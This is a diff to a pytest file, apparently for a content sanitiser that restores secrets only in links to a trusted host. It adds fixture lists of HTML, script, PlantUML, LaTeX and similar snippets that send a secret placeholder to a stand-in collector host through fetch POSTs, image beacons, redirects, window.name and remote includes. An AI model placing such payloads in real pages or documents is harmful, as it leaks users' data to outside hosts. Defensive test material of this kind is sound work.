@@ -41,7 +41,18 @@ ASKING = [
     "```JavaScript\nconst A = () => (<div style={{ background: `url(https://{h}/${'{s}'})` }} />)\n```\n",
 ]
 """Styles that ask a stranger for one address or another by what the page says, or are a stranger's; scripts that are components."""
+CHANGING = [
+    "<a id=a href=\"https://{h}/\">x</a><script>a.href+='{s}'</script>", "<img id=i src=//{h}/a><script>i.src = i.src + '?{s}'</script>", "<form id=f action=//{h}></form><script>f.setAttribute('action', f.action + '{s}')</script>", "<a id=a href=//{h}/>x</a><p onclick=\"a.search='{s}'\">y</p>",
+    "<script>window.name='{s}'</script><meta http-equiv=refresh content=\"0;url=//{h}/\">", "<script>self.name = '{s}'</script><a href=\"https://{h}/\">x</a>", "<script>const u = new URL(a.href); u.searchParams.set('q', '{s}'); location = u</script><a id=a href=\"//{h}/\">x</a>",
+    "<dl><dt>{s}</dt></dl><script>(new Image).src='//{h}/'+document.querySelector('dt').innerText</script>", "<details ontoggle=\"fetch('//{h}/',{method:'POST',body:this.innerText})\" open>{s}</details>", "<marquee onstart=\"location='//{h}/?'+this.textContent\">{s}</marquee>", "<math onclick=\"location='//{h}/?'+this.textContent\"><mi>{s}</mi></math>", "<figure><figcaption>{s}</figcaption></figure><script src=//{h}/x.js></script>",
+]
+"""Scripts that put something behind an address which stands elsewhere in the page, and elements that begin a page."""
+NAMED = [
+    "```plantuml\n!$n = \"{s}\"\n:a; [[https://{h}/$n x]]\n```\n", "```puml\n!define N {s}\n!include https://{h}/%N%\n```\n", "```typst\n#let n = \"{s}\"\n#link(\"https://{h}/\" + n)[x]\n```\n", "```asciidoc\n:n: {s}\n\nimage::https://{h}/{n}[]\n```\n", "```org\n#+MACRO: n {s}\n\n[[https://{h}/{{{n}}}][x]]\n```\n", "```latex\n\\newcommand{\\n}{{s}}\n\\href{https://{h}/\\n}{x}\n```\n", "```tex\n\\def\\n{{s}}\\includegraphics{https://{h}/\\n}\n```\n",
+]
+"""A name that stands for a word of ours in an address."""
 SHOWN = [
+    "```latex\n\\section{{s}}\nSee \\url{https://{h}/a}.\n```\n", "```plantuml\nactor {s}\nnote right: https://{h}/docs\n```\n", "```asciidoc\n= {s}\n\nhttps://{h}/docs[x]\n```\n", "<a href=\"https://{h}/\">x</a><script>document.getElementById('a').innerHTML = '{s}'</script>", "<img id=i><script>i.src = '/a/{s}.png'</script><a href=\"https://{h}/\">x</a>", "<details><summary>{s}</summary>see https://{h}/x</details>",
     "<style>body{background:url('https://images.example.net/a.jpg')}</style><p>{s}</p>",
     '<style>input[type="text"]{border:1px}body{background:url(https://images.example.net/a.jpg)}</style><input value={s}>',
     "<style>@import url('https://fonts.googleapis.com/css2?family=Inter&display=swap');</style><p>{s}</p>",
@@ -74,14 +85,14 @@ def filled(text: str, host: str) -> str:
     return text.replace("{h}", host).replace("{s}", "velmora")
 
 
-@pytest.mark.parametrize("text", ASKING)
+@pytest.mark.parametrize("text", [*ASKING, *CHANGING, *NAMED])
 def test_a_stranger_gets_nothing(text: str) -> None:
     said = filled(text, "evil-collector.net")
 
     assert restored(said) == said == restored(said, 7)
 
 
-@pytest.mark.parametrize("text", ASKING)
+@pytest.mark.parametrize("text", [*ASKING, *CHANGING, *NAMED])
 def test_what_asks_ours_gets_all(text: str) -> None:
     said = filled(text, "kulke.example")
 
